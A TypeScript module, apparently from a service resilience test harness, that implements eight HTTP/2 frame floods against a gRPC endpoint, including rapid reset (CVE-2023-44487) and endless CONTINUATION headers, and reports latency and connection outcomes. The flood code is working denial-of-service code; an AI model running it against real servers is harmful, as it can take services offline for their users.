import type { Attack, AttackContext, Outcome } from '../attack.js';
import { FLAG, FRAME, frame, grpcFields, headerBlock, settings, uint32 } from '../h2.js';
import { openH2 } from '../h2-connection.js';
import { drained, repeatFor } from '../sockets.js';
import { createTally, figure } from '../tally.js';

const CONNECTIONS = 8;
/** Frames, or groups of them, that are written at once. */
const AT_ONCE = 100;

const fields = headerBlock(grpcFields('/chatsessions.v1.ChatSessions/OpenSession', undefined));
const open = (stream: number) => frame(FRAME.headers, FLAG.endHeaders, stream, fields);
const openUnfinished = (stream: number) => frame(FRAME.headers, 0, stream, fields);

/** A flood of frames on one connection. */
interface Flood {
  readonly name: string;
  readonly shows: string;
  /** Whether it is in the short form. */
  readonly isQuick?: boolean;
  /** What visitors may have to wait (p99) where the frames cost CPU time by the byte, and Node lets nobody see them. */
  readonly p99Ms?: number;
  /** What is sent before it. */
  readonly first?: Buffer;
  /** One frame or group of frames; `number` counts from 0. */
  readonly next: (number: number) => Buffer;
}

const FLOODS: readonly Flood[] = [
  {
    name: 'h2-rapid-reset',
    shows: 'calls that are reset as soon as they begin (CVE-2023-44487)',
    isQuick: true,
    p99Ms: 1_000,
    next: (number) =>
      Buffer.concat([open(2 * number + 1), frame(FRAME.rstStream, 0, 2 * number + 1, uint32(8))]),
  },
  {
    name: 'h2-continuation',
    shows: 'header blocks that never end (CONTINUATION)',
    isQuick: true,
    first: openUnfinished(1),
    next: () => frame(FRAME.continuation, 0, 1, headerBlock([['x-y', 'z'.repeat(50)]])),
  },
  { name: 'h2-ping', shows: 'PING', next: () => frame(FRAME.ping, 0, 0, Buffer.alloc(8)) },
  {
    name: 'h2-settings',
    shows: 'SETTINGS, each of which wants an answer',
    isQuick: true,
    next: (number) => settings([[3, number % 1_000]]),
  },
  {
    name: 'h2-priority',
    shows: 'PRIORITY of streams that are not there',
    p99Ms: 3_000,
    next: (number) => frame(FRAME.priority, 0, 2 * (number % 100_000) + 1, Buffer.alloc(5, 1)),
  },
  {
    name: 'h2-window-update',
    shows: 'WINDOW_UPDATE by one byte',
    next: () => frame(FRAME.windowUpdate, 0, 0, uint32(1)),
  },
  {
    name: 'h2-empty-data',
    shows: 'empty DATA frames of one call',
    isQuick: true,
    first: open(1),
    next: () => frame(FRAME.data, 0, 1),
  },
  {
    name: 'h2-unknown',
    shows: 'frames of unknown types, which a server has to ignore',
    next: (number) => frame(0x10 + (number % 200), 0xff, number % 7, Buffer.alloc(50)),
  },
];

export const h2Floods: readonly Attack[] = FLOODS.map((one) => ({
  name: one.name,
  shows: `a flood of frames: ${one.shows} (gRPC)`,
  seconds: 5,
  ...(one.isQuick === true && { quickSeconds: 0.6 }),
  ...(one.p99Ms !== undefined && { tolerance: { p99Ms: one.p99Ms } }),
  run: (context) => floodFrames(one, context),
}));

async function floodFrames({ first, next }: Flood, { target, ms }: AttackContext): Promise<Outcome> {
  const counts = createTally();
  const end = performance.now() + ms;
  await repeatFor(ms, CONNECTIONS, async () => {
    const connection = await openH2(target);
    if (connection === undefined) {
      counts.add('no connection');
      return;
    }
    counts.add('connections');
    if (first) connection.write(first);
    let number = 0;
    while (!connection.isClosed() && performance.now() < end) {
      const frames = Array.from({ length: AT_ONCE }, () => next(number++));
      counts.add('frames', AT_ONCE);
      if (!connection.write(Buffer.concat(frames))) await orOver(drained(connection.socket), end);
      // What the service says must be read in between.
      await new Promise((resolve) => setImmediate(resolve));
    }
    if (connection.isClosed())
      counts.add(connection.goAway() === undefined ? 'closed' : 'closed with GOAWAY');
    connection.socket.destroy();
  });
  const told = ['closed', 'closed with GOAWAY', 'no connection'].filter((label) => counts.get(label) > 0);
  return {
    sent: `${figure(counts.get('frames'))} frames on ${figure(counts.get('connections'))} connections`,
    seen: told.map((label) => `${label} × ${figure(counts.get(label))}`).join(', ') || 'taken',
    faults: [],
  };
}

/** Waits for something, but not longer than the attack goes on. */
async function orOver(work: Promise<void>, end: number): Promise<void> {
  let timer: NodeJS.Timeout | undefined;
  const over = new Promise<void>((resolve) => {
    timer = setTimeout(resolve, Math.max(0, end - performance.now()));
  });
  await Promise.race([work, over]);
  clearTimeout(timer);
}
